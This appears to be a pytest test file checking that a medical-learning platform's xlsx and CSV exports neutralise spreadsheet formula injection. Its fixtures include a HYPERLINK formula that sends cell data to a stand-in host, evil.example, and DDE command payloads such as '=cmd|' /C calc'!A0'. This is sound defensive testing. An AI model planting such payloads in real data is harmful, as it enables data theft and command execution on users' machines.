"""Exports never hand a spreadsheet program a formula: every cell a learner,
mentor or staff member typed is neutralised (cms.spreadsheets) in the PARS
batch file (xlsx), the transcript CSV and Wagtail's own report exports."""

import csv
import io

import openpyxl
import pytest

from cms import spreadsheets
from learning.models import BoardCertification
from learning.reporting.batches import create_batch, preview
from tests.factories import (
    GuidePageFactory,
    InstitutionFactory,
    LearnerProfileFactory,
    LearningPathPageFactory,
    UserFactory,
)

from .conftest import complete
from .report_fixtures import add_moc, certify, learner, reporting_institution, reporting_path

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bob")'
TRIGGERS = tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        ("=1+1", "'=1+1"),
        ("+447700900123", "+447700900123"),  # a plain number stays a number
        ("+ABIM 123", "'+ABIM 123"),
        ("-2+3", "'-2+3"),
        ("-1.5", "-1.5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("＝1+1", "'＝1+1"),
        ("O'Brien-Smith", "O'Brien-Smith"),
        ("Maya R. Chen, MD", "Maya R. Chen, MD"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise(typed, exported):
    assert spreadsheets.neutralise(typed) == exported


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text):
    live = [c for c in cells(text) if c.lstrip(" ").startswith(TRIGGERS)]
    assert not live, live


def xlsx_cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_pars_batch_xlsx_neutralises_names_and_board_ids(client):
    institution, staff = reporting_institution(name="@Institution", slug="at")
    path = reporting_path(institution, title="=Path")
    user = learner("doctor-x", HOSTILE_NAME, "-Smith", boards=(("ABIM", "123456"),))
    certificate = certify(user, path)
    add_moc(certificate, board_id="+ABIM-1")
    BoardCertification.objects.filter(profile__user=user).update(board_id="+ABIM-1")
    client.force_login(staff)
    batch = create_batch(institution, "CME", staff)
    response = client.get(f"/admin/cme-reports/batches/{batch.pk}/learners.xlsx")
    cells = xlsx_cells(b"".join(response.streaming_content))
    values = [c.value for c in cells]
    assert "'" + HOSTILE_NAME in values and "'-Smith" in values
    assert values[0].startswith("'@Institution")  # the guidance line names the institution
    assert all(c.data_type != "f" for c in cells)
    live = [v for v in values if isinstance(v, str) and v.lstrip(" ").startswith(TRIGGERS)]
    assert not live, live
    # The hostile board ID is not an ABIM ID: that row is held back, never written.
    plan = preview(institution, "ABIM")
    assert plan.adds == [] and [p.field for p in plan.problems] == ["board_id"]


@pytest.mark.django_db
def test_transcript_csv_neutralises_titles(client, django_capture_on_commit_callbacks):
    institution = InstitutionFactory(name="-Institution")
    path = LearningPathPageFactory(title="=cmd|' /C calc'!A0", slug="path", institution=institution)
    learner = UserFactory(username="doctor-y")
    LearnerProfileFactory(user=learner, full_name="Yara Young")
    with django_capture_on_commit_callbacks(execute=True):
        complete(learner, path)
    client.force_login(learner)
    text = client.get("/me/transcript/transcript.csv").content.decode()
    assert "'=cmd|' /C calc'!A0" in cells(text)
    assert "'-Institution" in cells(text)
    assert_no_formula(text)


@pytest.mark.django_db
def test_wagtail_report_csv_is_neutralised(client):
    from django.utils import timezone

    GuidePageFactory(
        title="=2+5+cmd|' /C calc'!A0", slug="formula", last_published_at=timezone.now()
    )
    admin = UserFactory(username="root", is_superuser=True, is_staff=True)
    client.force_login(admin)
    response = client.get("/admin/reports/aging-pages/?export=csv")
    text = b"".join(response.streaming_content).decode()
    assert "'=2+5+cmd|' /C calc'!A0" in cells(text)
    assert_no_formula(text)
